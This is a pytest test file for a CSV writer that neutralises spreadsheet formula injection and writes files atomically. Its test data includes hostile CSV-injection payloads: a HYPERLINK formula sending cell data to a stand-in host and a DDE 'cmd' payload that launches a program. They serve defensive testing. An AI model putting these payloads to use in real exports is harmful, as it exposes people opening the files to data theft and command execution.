"""The writer of the CSV files the hub hands out (src/safeguarding/core/csvfile.py)."""

from __future__ import annotations

import csv
import errno
import io
import os
import stat
from pathlib import Path

import pytest

from safeguarding.core.csvfile import neutralise, spreadsheet_safe_writer, written_whole


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Open")', '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Chloe", "Chloe"),
        ("", ""),
        ("a=b", "a=b"),  # only the first character starts a formula
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value: str, written: str) -> None:
    assert neutralise(value) == written


def test_numbers_and_empty_values_are_left_to_the_csv_module() -> None:
    assert neutralise(-1) == -1
    assert neutralise(None) is None


def test_the_writer_neutralises_every_cell_and_keeps_rfc_4180_quoting() -> None:
    out = io.StringIO()
    writer = spreadsheet_safe_writer(out)

    writer.writerow(["=1+1", 'say "hi", then go', 7])
    writer.writerows([["@me"], ["plain"]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", 'say "hi", then go', "7"], ["'@me"], ["plain"],
    ]


def test_a_file_is_written_whole_or_the_one_before_is_left_as_it_was(tmp_path: Path) -> None:
    out = tmp_path / "new" / "alerts.csv"
    with written_whole(out) as handle:
        handle.write("first\n")
    assert out.read_text() == "first\n"
    out.chmod(0o600)
    with pytest.raises(OSError, match="No space left"), written_whole(out) as handle:
        handle.write("cut sh")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    assert out.read_text() == "first\n"  # not cut short
    with written_whole(out) as handle:
        handle.write("second\n")
    assert out.read_text() == "second\n"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # a file replaced keeps who may read it
    assert sorted(p.name for p in out.parent.iterdir()) == ["alerts.csv"]  # no part left behind


def test_a_folder_or_a_path_through_a_file_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    (tmp_path / "file.csv").write_text("kept")
    with pytest.raises(IsADirectoryError, match="it is a folder"), written_whole(tmp_path):
        pytest.fail("nothing is written")
    with pytest.raises(NotADirectoryError, match="part of its path is a file"), written_whole(tmp_path / "file.csv" / "x.csv"):
        pytest.fail("nothing is written")
    assert [p.name for p in tmp_path.iterdir()] == ["file.csv"] and (tmp_path / "file.csv").read_text() == "kept"


def test_a_link_is_followed_and_the_file_it_names_replaced(tmp_path: Path) -> None:
    (tmp_path / "real.csv").write_text("before")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    with written_whole(tmp_path / "link.csv") as handle:
        handle.write("after")
    assert (tmp_path / "link.csv").is_symlink() and (tmp_path / "real.csv").read_text() == "after"


def test_a_file_sent_to_standard_output_goes_down_a_pipe_or_is_added_to_a_file(tmp_path: Path) -> None:
    """``--out /dev/stdout`` piped on (a pipe's name resolves to no file, though it opens) or sent on
    with ``>>`` (added to the file, not put in its place)."""
    import subprocess
    import sys

    script = ("import sys; from safeguarding.core.csvfile import written_whole\n"
              "with written_whole(sys.argv[1]) as h: h.write('a,b\\n')\n")
    piped = subprocess.run([sys.executable, "-c", script, "/dev/stdout"], capture_output=True, text=True, check=True)
    assert piped.stdout == "a,b\n"
    kept = tmp_path / "kept.csv"
    kept.write_text("before\n")
    with kept.open("a") as appended:
        subprocess.run([sys.executable, "-c", script, "/dev/stdout"], stdout=appended, check=True)
    assert kept.read_text() == "before\na,b\n"
